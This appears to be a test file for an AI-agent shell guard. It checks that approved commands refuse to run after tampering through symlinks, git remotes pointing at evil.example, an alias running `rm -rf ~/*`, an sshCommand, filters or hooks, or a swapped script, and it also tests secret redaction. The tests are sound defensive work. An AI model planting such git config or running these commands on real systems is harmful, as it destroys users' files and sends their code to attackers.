// Plans together with the real guard and the real search for secrets: what was approved and what the guard finds right before it
// runs, and what is told of a command.

import { assert, assertEquals } from "@std/assert";
import { Turns } from "./actuators/shell/turns.ts";
import { makeGates, policyFileOf } from "./guard/all_gates.ts";
import { makeGuard } from "./guard/dispatcher.ts";
import type { Action, Task, Verdict } from "./pipeline/ports.ts";
import type { FlightPlan } from "./plans/flight_plan.ts";
import { link, Place, RAN } from "./plans/place_example.ts";
import { outputTail } from "./redaction.ts";

/** The guard as a daemon has it. */
function guardOf({ root, now }: Place): (action: Action) => Promise<Verdict> {
  const subject = {
    home: `${root}/home`,
    user: "u",
    config: `${root}/config`,
    data: `${root}/data`,
    state: `${root}/state`,
    memex: `${root}/home/memex`,
    privacyTags: [],
    networkAllow: [],
    targets: ["SHELL"],
  };
  const clock = { now: () => now, after: () => () => {} };
  const guard = makeGuard({ gates: makeGates(subject, policyFileOf(subject, () => {})), clock, gateTimeoutMs: 1_000 });
  return async (action) => await guard.judge(action, { source: "TEST", signal: new AbortController().signal } as Task);
}

Deno.test("hands: with the real guard nothing runs whose link, remote, alias, filter or include was turned round", async () => {
  const remote = (url: string) => `[remote "origin"]\n\turl = ${url}\n[branch "main"]\n\tremote = origin\n`;
  const ways: readonly (readonly [string, string, (place: Place) => void])[] = [
    ["a link", "echo evil >> ../notes/log.txt", ({ root }) => {
      Deno.removeSync(`${root}/notes/log.txt`);
      link(`${root}/home/.bashrc`, `${root}/notes/log.txt`);
    }],
    ["the remote", "git push origin main", ({ project }) => {
      Deno.writeTextFileSync(`${project}/.git/config`, remote("https://evil.example/x.git"));
    }],
    ["the remote, by another address to push to", "git push origin main", ({ root }) => {
      const url = `[url "https://evil.example/"]\n\tpushInsteadOf = ${root}/\n`;
      Deno.writeTextFileSync(`${root}/home/.gitconfig`, url);
    }],
    ["an alias", "git zz", ({ project, root }) => {
      const alias = "[alias]\n\tzz = !sh -c 'rm -rf ~/*'\n";
      Deno.writeTextFileSync(`${project}/.git/config`, remote(`${root}/bare.git`) + alias);
    }],
    ["a filter", "git add . && git push origin main", ({ project }) => {
      Deno.writeTextFileSync(`${project}/.gitattributes`, "* filter=evil\n");
    }],
    ["an included file", "git push origin main", ({ root }) => {
      Deno.writeTextFileSync(`${root}/home/more.gitconfig`, '[core]\n\tsshCommand = "sh -c evil"\n');
    }],
    ["a hook", "git push origin main", ({ project }) => {
      Deno.mkdirSync(`${project}/.git/hooks`, { recursive: true });
      Deno.writeTextFileSync(`${project}/.git/hooks/pre-push`, "#!/bin/sh\nevil\n", { mode: 0o755 });
    }],
  ];
  const all = ways.flatMap(([name, command, change]) => [
    [name, command, change, 0] as const,
    [`${name}, left alone`, command, () => {}, 1] as const,
  ]);
  for (const [name, command, change, runs] of all) {
    await using place = new Place();
    const { root, project } = place, home = `${root}/home`;
    for (const folder of ["notes", "home", "bare.git"]) Deno.mkdirSync(`${root}/${folder}`);
    Deno.mkdirSync(`${project}/.git`);
    for (const file of [`${root}/notes/log.txt`, `${home}/.bashrc`]) Deno.writeTextFileSync(file, "");
    Deno.writeTextFileSync(`${project}/.git/config`, remote(`${root}/bare.git`));
    Deno.writeTextFileSync(`${project}/.git/HEAD`, "ref: refs/heads/main\n");
    Deno.writeTextFileSync(`${home}/.gitconfig`, "[include]\n\tpath = more.gitconfig\n");
    const judge = guardOf(place);
    const { service } = place.open({ judge });
    const { id, hash } = await place.propose(service, command, project, judge);
    change(place);
    assert(service.approve(id, hash, "cli").ok);
    await service.idle();
    assertEquals(place.runs.length, runs, name);
    const { state, progress } = service.find(id) as FlightPlan;
    if (runs === 0) assert(state === "FAILED" && progress.neverRan || state === "INTERRUPTED", `${name}: ${state}`);
  }
});

Deno.test("hands: a plan is not looked at for the last time while another that may write its code runs", async () => {
  for (const way of ["swap", "leave alone", "cancel"] as const) {
    await using place = new Place();
    const script = `${place.project}/d.sh`;
    Deno.writeTextFileSync(script, "echo approved\n");
    const turns = new Turns();
    const running = Promise.withResolvers<void>(), release = Promise.withResolvers<void>();
    const { service } = place.open({
      enter: (claim, signal) => turns.enter(claim, signal),
      run: async ({ command }) => {
        place.runs.push(command === "writer" ? command : Deno.readTextFileSync(script));
        running.resolve();
        if (command === "writer") await release.promise;
        return RAN;
      },
    });
    place.verdict = { ...place.verdict, grants: { write: [place.project], read: [], network: false } };
    const writer = await place.propose(service, "writer");
    place.verdict = { ...place.verdict, grants: { write: [], read: [], network: false } };
    place.code = [script];
    const runner = await place.propose(service, "bash d.sh", place.root);
    place.code = [];
    assert(service.approve(writer.id, writer.hash, "cli").ok);
    await running.promise;
    place.code = [script];
    assert(service.approve(runner.id, runner.hash, "cli").ok);
    assertEquals(turns.waiting, 1);
    if (way === "swap") Deno.writeTextFileSync(script, "echo evil\n");
    if (way === "cancel") assert(service.cancel(runner.id, runner.hash, "cli").ok);
    assertEquals(turns.waiting, way === "cancel" ? 0 : 1);
    release.resolve();
    await service.idle();
    assertEquals(place.runs, ["writer", ...way === "leave alone" ? ["echo approved\n"] : []], way);
    const state = { swap: "FAILED", "leave alone": "DONE", cancel: "INTERRUPTED" }[way];
    assertEquals(service.find(runner.id)?.state, state);
    assertEquals(service.list("PLAN").length, way === "swap" ? 1 : 0);
  }
});

Deno.test("hands: of what a run wrote no secret is kept, nor half of one where it is cut", () => {
  const secret = "tR7x9Qm2Lp4Zk8Vw", line = `API_TOKEN=${secret}\n`;
  for (let behind = 3_980; behind < 4_030; behind++) {
    const { stdout, stderr } = outputTail({ stdout: `${line}${"x ".repeat(behind / 2)}`, stderr: line });
    assert(!stderr.includes(secret) && stderr.includes("API_TOKEN"), stderr);
    assert(!/tR7x|Zk8Vw|8Vw/.test(stdout), stdout.slice(0, 60));
    assert(stdout.length < 4_050);
  }
  assertEquals(outputTail({ stdout: "ok\n", stderr: "" }), { stdout: "ok\n", stderr: "" });
  assert(outputTail({ stdout: "\u{1f600}".repeat(2_000) + "x", stderr: "" }).stdout.isWellFormed());
});
